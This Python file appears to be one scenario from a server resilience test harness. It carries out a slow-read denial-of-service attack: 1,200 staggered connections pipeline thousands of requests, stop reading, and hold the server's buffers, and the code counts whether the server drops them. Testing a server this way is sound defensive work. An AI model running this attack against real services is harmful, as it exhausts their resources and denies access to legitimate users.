"""Connections that pipeline requests and never read: each holds a place and full buffers for as long as the server lets it."""

import asyncio

import web

LANES = 1200
PAUSE = 0.5
HELD = 30.0
REQUESTS = 2000


async def attack(target, lane):
    # Most at the analysts' door, some at the two others, whose answers are as free.
    entrance = "curators" if lane % 12 == 0 else "wire" if lane % 12 == 1 else "http"
    # A thousand handshakes at the same moment would be another attack.
    await asyncio.sleep(target.random.uniform(0, 5))
    context = target.wire_tls if entrance == "wire" else target.tls
    _, writer = await web.connect(target.ports[entrance], target.source(lane), context)
    target.counts[f"connected to {entrance}"] += 1
    # Nothing is read from the socket any more.
    writer.transport.pause_reading()
    try:
        if entrance == "wire":
            writer.write(b"\0\0\0\x17\0\x03\0\0user\0stranger\0\0")
        else:
            path = "/healthz" if entrance == "curators" else "/v1/openapi.json"
            writer.write(web.written("GET", path, target.ports[entrance]) * REQUESTS)
        for _ in range(int(HELD)):
            await asyncio.sleep(1)
            if writer.transport.is_closing():
                target.counts["let go of"] += 1
                return
    finally:
        writer.transport.abort()
